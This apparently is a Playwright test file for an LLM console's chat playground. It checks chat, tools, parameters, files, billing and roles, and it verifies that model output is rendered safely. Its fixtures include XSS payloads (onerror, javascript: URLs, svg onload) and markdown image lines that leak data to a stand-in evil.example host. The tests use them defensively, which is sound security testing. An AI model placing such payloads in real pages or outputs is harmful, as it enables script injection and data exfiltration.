/** The playground of the console: chat with several models, by click and by keyboard. */
import { afterAll, beforeAll, expect, it } from 'bun:test'
import type { Page } from 'playwright-core'
import { type ChatVendor, openChatVendor } from './support/chat-vendor.ts'
import { describeInBrowser } from './support/chromium.ts'
import { axeFaults, openConsole, screenshots, type TestConsole } from './support/console.ts'
import { injectedInto } from './support/injected.ts'
import { PAYLOADS } from './support/payloads.ts'
import { expectSoon } from './support/soon.ts'

const TOOLS = [{ type: 'function', function: { name: 'weather', parameters: { type: 'object' } } }]
const HOSTILE = [
  '<img src=x onerror="window.hit=1">',
  '<script>window.hit=1</script>',
  '[link](javascript:window.hit=1)',
  '![picture](https://elsewhere.example/a.png)',
  '<svg/onload=window.hit=1>',
  '"><iframe srcdoc="<script>parent.hit=1</script>">',
  '```html\n<img src=x onerror=window.hit=1>\n```',
  '# <b onclick=window.hit=1>heading</b>\n- <a href="javascript:window.hit=1">item</a>',
].join('\n\n')
/** What a model may cite, and whether it becomes a link. */
const CITED: [url: string, isLink: boolean][] = [
  ['https://good.example/page?q=1', true],
  ['javascript:window.hit=1', false],
  ['data:text/html,<script>parent.hit=1</script>', false],
  ['//evil.example/x', false],
  ['java\nscript:window.hit=1', false],
  ['https://real.example@evil.example/', false],
  ['https://"onmouseover="window.hit=1', false],
  ['vbscript:x', false],
  ['https://evil.example/"><img src=x onerror=window.hit=1>', true],
]
const PICTURES = [
  '![x](https://evil.example/leak?q=secret)',
  '![x](//evil.example/leak)',
  '![x](data:image/svg+xml,<svg onload=window.hit=1>)',
  '![x][1]\n\n[1]: https://evil.example/leak',
  '<https://evil.example/auto>',
  '[a](data:text/html,x) [b](javascript:window.hit=1)',
].join('\n\n')
let opened: TestConsole
let vendor: ChatVendor

const answers = (page: Page) => page.locator('article[data-role="answer"][aria-busy="false"]')
const message = (page: Page) => page.getByRole('textbox', { name: 'Message' })

async function ask(page: Page, text: string): Promise<void> {
  await message(page).fill(text)
  await page.getByRole('button', { name: 'Send', exact: true }).click()
}

describeInBrowser('the playground', () => {
  beforeAll(async () => {
    vendor = openChatVendor((question) => {
      if (question === 'call')
        return { tool_calls: [{ index: 0, id: 'call_1', function: { name: 'weather', arguments: '{"city":"Rome"}' } }] }
      const text = PAYLOADS.join('\n\n')
      if (question === 'payloads') return { content: text, reasoning_content: text }
      if (question === 'citations') {
        const url_citation = (url: string) => ({ url, title: PAYLOADS[0], start_index: 0, end_index: 1 })
        const annotations = CITED.map(([url]) => ({ type: 'url_citation', url_citation: url_citation(url) }))
        return { content: PICTURES, annotations }
      }
      if (question === 'payloads of a tool')
        return { tool_calls: [{ index: 0, id: text, function: { name: text, arguments: text } }] }
      if (question === 'payloads of an error') return { error: text }
      return question === 'hostile'
        ? { content: HOSTILE, reasoning_content: HOSTILE }
        : { content: `You said ${question}` }
    })
    opened = await openConsole({
      providers: { acme: { base_url: vendor.base_url, key: 'key' } },
      models: {
        'acme/small': { limits: { max_tokens: { maximum: 100 } }, prices: { input: 1, output: 4 } },
        'acme/<img src=x onerror=alert(1)>': {},
      },
    })
  })
  afterAll(async () => {
    await opened?.close()
    vendor?.close()
  })

  it.each(['light', 'dark'] as const)('compares two models without a serious fault for axe, %s', async (scheme) => {
    const page = await opened.open('/playground?model=sandbox/vision,sandbox/general&effort=high', { scheme })
    expect(await axeFaults(page)).toEqual([])
    await ask(page, 'What is a gatehouse?')
    await answers(page).nth(1).waitFor()
    expect(await answers(page).count()).toBe(2)
    const figures = expect.stringMatching(/Reasoning.*to first.*in · .*out.*reasoning/s)
    await expectSoon(() => answers(page).first().textContent(), figures)
    expect(await axeFaults(page)).toEqual([])
    await screenshots(page, `playground-chat-${scheme}`)
    await page.setViewportSize({ width: 1280, height: 900 })
    await page.getByRole('button', { name: 'Compare' }).click()
    await page.getByRole('region', { name: 'Difference' }).waitFor()
    expect(await axeFaults(page)).toEqual([])
    await screenshots(page, `playground-compare-${scheme}`, [1280])
  })

  it('is used by keyboard alone: Enter sends, Escape closes a dialog', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await message(page).focus()
    await page.keyboard.type('one')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('two')
    await page.keyboard.press('Enter')
    await answers(page).waitFor()
    expect(await answers(page).textContent()).toContain('You said one\ntwo')
    await expectSoon(() => message(page).inputValue(), '')
    await page.getByRole('button', { name: 'Code' }).focus()
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
  })

  it('stops an answer, keeps what has come, and asks again', async () => {
    const page = await opened.open('/playground?model=sandbox/general')
    await ask(page, 'Tell me.\n@sandbox tokens=50 hang_after=3')
    await page.locator('.answer-text').waitFor()
    await page.getByRole('button', { name: 'Stop', exact: true }).click()
    await page.getByText('stopped', { exact: true }).waitFor()
    expect(await page.locator('.answer-text').textContent()).not.toBe('')
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.getByRole('button', { name: 'Stop model 1' }).click()
    await page.getByText('stopped', { exact: true }).waitFor()
    expect(await page.locator('article').count()).toBe(2)
  })

  it('shows the error of a call and of a stream that breaks', async () => {
    const page = await opened.open('/playground?model=sandbox/general', { allowed: /chat\/completions 429/ })
    await ask(page, 'a\n@sandbox tokens=50 cut_after=3')
    await page.getByRole('alert').getByText('upstream_cut').waitFor()
    await page.getByRole('button', { name: 'Clear' }).click()
    await ask(page, 'a\n@sandbox status=429')
    await page.getByRole('alert').getByText('rate_limit_exceeded').waitFor()
  })

  it('sends parameters within the limits of each model, and keeps them in the address', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await page.getByRole('textbox', { name: 'System prompt' }).fill('Be brief.')
    await page.getByRole('textbox', { name: 'Max tokens' }).fill('500')
    await page.getByText('acme/small is sent 100, its maximum.').waitFor()
    await page.getByRole('textbox', { name: 'Temperature' }).fill('0.5')
    await page.waitForURL('**max_tokens=500**temperature=0.5**')
    await ask(page, 'limits')
    await answers(page).waitFor()
    expect(vendor.bodies.at(-1)).toMatchObject({
      temperature: 0.5,
      max_tokens: 100,
      messages: [
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'limits' },
      ],
    })
    expect(page.url()).not.toContain('brief')
  })

  it('sends files, refuses what is too large, and takes them out again', async () => {
    const page = await opened.open('/playground?model=acme/small')
    const picker = page.locator('input[type=file]')
    await picker.setInputFiles({ name: 'large.png', mimeType: 'image/png', buffer: Buffer.alloc(10_000_001) })
    await page.locator('.toast', { hasText: 'large.png has 10 MB; a file may have 10 MB.' }).waitFor()
    await picker.setInputFiles([
      { name: 'a.png', mimeType: 'image/png', buffer: Buffer.from('picture') },
      { name: 'b.pdf', mimeType: 'application/pdf', buffer: Buffer.from('document') },
    ])
    await page.getByRole('button', { name: 'Remove b.pdf' }).click()
    await ask(page, 'files')
    await answers(page).waitFor()
    const url = `data:image/png;base64,${Buffer.from('picture').toString('base64')}`
    expect(vendor.bodies.at(-1)?.messages).toEqual([
      {
        role: 'user',
        content: [
          { type: 'text', text: 'files' },
          { type: 'image_url', image_url: { url } },
        ],
      },
    ])
  })

  it('passes tools as JSON and what the person says that they return', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await page.getByRole('textbox', { name: 'Tools' }).fill('[{')
    await page.getByText(/^This is not JSON/).waitFor()
    await message(page).fill('call')
    await expectSoon(() => page.getByRole('button', { name: 'Send', exact: true }).isDisabled(), true)
    await page.getByRole('textbox', { name: 'Tools' }).fill(JSON.stringify(TOOLS))
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.getByRole('textbox', { name: 'Result of weather' }).fill('sunny')
    await page.getByRole('button', { name: 'Send results' }).click()
    await page.getByText('You said sunny').waitFor()
    expect(vendor.bodies.at(-1)).toMatchObject({
      tools: TOOLS,
      messages: [{}, { role: 'assistant', tool_calls: [{ id: 'call_1' }] }, { role: 'tool', tool_call_id: 'call_1' }],
    })
  })

  it('asks for structured output', async () => {
    const page = await opened.open('/playground?model=sandbox/general')
    await page.getByRole('combobox', { name: 'Answer as' }).click()
    await page.getByRole('option', { name: 'JSON schema' }).click()
    const schema = { type: 'object', properties: { name: { type: 'string' } }, required: ['name'] }
    await page.getByRole('textbox', { name: 'Schema' }).fill(JSON.stringify({ ...schema, additionalProperties: false }))
    await ask(page, 'A name, please.')
    await answers(page).waitFor()
    expect(JSON.parse((await page.locator('.answer-text').textContent()) ?? '')).toHaveProperty('name')
  })

  it('shows what a model writes as text, whatever it is', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await ask(page, 'hostile')
    await answers(page).waitFor()
    const shown = answers(page)
    expect(await shown.textContent()).toContain('<img src=x onerror="window.hit=1">')
    expect(await shown.locator('img, script, iframe, a:not([href^="/console/"])').count()).toBe(0)
    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
  })

  it('loads no picture of an answer, and links only cited addresses of the web, with their host', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await ask(page, 'citations')
    const sources = answers(page).getByRole('region', { name: 'Sources' })
    await sources.waitFor()
    expect(await answers(page).locator('img, video, audio, iframe, object, svg').count()).toBe(0)
    const items = sources.getByRole('listitem')
    for (const [index, [url, isLink]] of CITED.entries()) {
      const link = items.nth(index).getByRole('link')
      expect([url, await link.count()]).toEqual([url, isLink ? 1 : 0])
      if (!isLink) continue
      expect(await link.getAttribute('rel')).toBe('noreferrer noopener')
      expect(await link.getAttribute('href')).toBe(new URL(url).href)
      expect(await items.nth(index).textContent()).toContain(new URL(url).host)
    }
    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
    expect(await axeFaults(page)).toEqual([])
    await screenshots(page, 'playground-sources')
  })

  it('shows 50 attacks in answers, reasoning, calls of tools and errors as text', async () => {
    const page = await opened.open('/playground?model=acme/small', { allowed: /chat\/completions 400/ })
    for (const [question, place] of [
      ['payloads', '.answer-text'],
      ['payloads of a tool', '.code'],
      ['payloads of an error', '[role="alert"]'],
    ] as const) {
      await ask(page, question)
      await answers(page).locator(place).first().waitFor()
      expect(await answers(page).textContent()).toContain(PAYLOADS[0] ?? '')
      expect(await injectedInto(page)).toEqual([])
      await page.getByRole('button', { name: 'Clear' }).click()
    }
  })

  it('does not make a call while the tools are not valid, and says so', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await ask(page, 'one')
    await answers(page).waitFor()
    await page.getByRole('textbox', { name: 'Tools' }).fill('[{')
    await page.getByRole('button', { name: 'Code' }).click()
    await page.locator('.toast', { hasText: 'The tools are not valid JSON.' }).waitFor()
  })

  it('adds and closes models, and writes the call as code in each API', async () => {
    const page = await opened.open('/playground?model=sandbox/general')
    for (const count of [2, 3, 4]) {
      await page.getByRole('button', { name: 'Add model' }).click()
      await page.getByRole('combobox', { name: `Model ${count}` }).waitFor()
    }
    await expectSoon(() => page.getByRole('button', { name: 'Add model' }).isDisabled(), true)
    await screenshots(page, 'playground-four', [390, 1280, 2560])
    for (const place of [4, 3, 2]) await page.getByRole('button', { name: `Close model ${place}` }).click()
    await ask(page, "It's me")
    await answers(page).waitFor()
    await page.getByRole('button', { name: 'Code' }).click()
    const code = page.getByRole('region', { name: /code$/ })
    const shows = (text: string) => expectSoon(() => code.textContent(), expect.stringContaining(text))
    await shows(`curl ${opened.origin}/v1/chat/completions`)
    for (const [api, path] of [
      ['Responses', '/v1/responses'],
      ['Messages', '/v1/messages'],
      ['Generate content', '/v1beta/models/sandbox/general:generateContent'],
    ] as const) {
      await page.getByRole('combobox', { name: 'API' }).click()
      await page.getByRole('option', { name: api }).click()
      await shows(`curl ${opened.origin}${path}`)
    }
    await page.getByRole('button', { name: 'TypeScript' }).click()
    await shows('new GoogleGenAI')
    await screenshots(page, 'playground-code', [1280])
  })

  it('bills the project that is chosen', async () => {
    const { project_id } = await opened.admin<{ project_id: string }>('/projects', { json: { name: 'Team' } })
    const page = await opened.open('/playground?model=sandbox/general')
    await page.getByRole('combobox', { name: 'Bill to' }).click()
    await page.getByRole('option', { name: 'Team' }).click()
    await page.waitForURL(`**project=${project_id}*`)
    await ask(page, 'Hello')
    await answers(page).waitFor()
    const tokens = await opened.admin<{ data: { playground?: string }[] }>(`/tokens?project_id=${project_id}`)
    expect(tokens.data).toMatchObject([{ prefix: 'playground' }])
  })

  it('keeps the conversation when the page is left', async () => {
    const page = await opened.open('/playground?model=acme/small')
    await ask(page, 'keep me')
    await answers(page).waitFor()
    await page.getByRole('link', { name: 'Models', exact: true }).click()
    await page.waitForURL('**/models')
    await page.goBack()
    await answers(page).waitFor()
    await expectSoon(() => answers(page).textContent(), expect.stringContaining('You said keep me'))
  })

  it('opens a request of the log with its model, and says where its contents are not stored', async () => {
    await (await opened.chat()).body?.cancel()
    await opened.recorded(1)
    const { data } = await opened.admin<{ data: { id: string }[] }>('/requests?limit=1')
    const page = await opened.open(`/playground?model=sandbox/compact&request=${data[0]?.id}`, {
      allowed: /contents 404/,
    })
    await page.getByText('The contents of this request are not stored').waitFor()
    await expectSoon(() => page.getByRole('combobox', { name: 'Model 1' }).inputValue(), 'sandbox/compact')
  })

  it('copies a link with the models and the parameters, and without what was typed', async () => {
    const page = await opened.open('/playground?model=acme/small&temperature=0.5&request=9', {
      allowed: /contents 404/,
    })
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.getByRole('textbox', { name: 'System prompt' }).fill('secret')
    await page.getByRole('button', { name: 'Copy link' }).click()
    await page.getByText('Link copied').first().waitFor()
    const link = await page.evaluate(() => navigator.clipboard.readText())
    expect(link).toBe(`${opened.origin}/console/playground?model=acme%2Fsmall&temperature=0.5`)
  })

  it('is for a project_admin without a choice of projects', async () => {
    const { project_id } = await opened.admin<{ project_id: string }>('/projects', { json: { name: 'Own' } })
    const page = await opened.open('/playground?model=acme/small', { role: 'project_admin', project_id })
    expect(await page.getByRole('combobox', { name: 'Bill to' }).count()).toBe(0)
    await ask(page, 'as a lead')
    await answers(page).waitFor()
    expect(await answers(page).textContent()).toContain('You said as a lead')
    const tokens = await opened.admin<{ data: object[] }>(`/tokens?project_id=${project_id}`)
    expect(tokens.data).toMatchObject([{ prefix: 'playground', project_id }])
  })

  it('is closed to who may not call', async () => {
    const page = await opened.open('/playground', { role: 'viewer' })
    await page.getByText('You may not call models').waitFor()
    expect(await page.getByRole('link', { name: 'Playground' }).count()).toBe(0)
  })
})
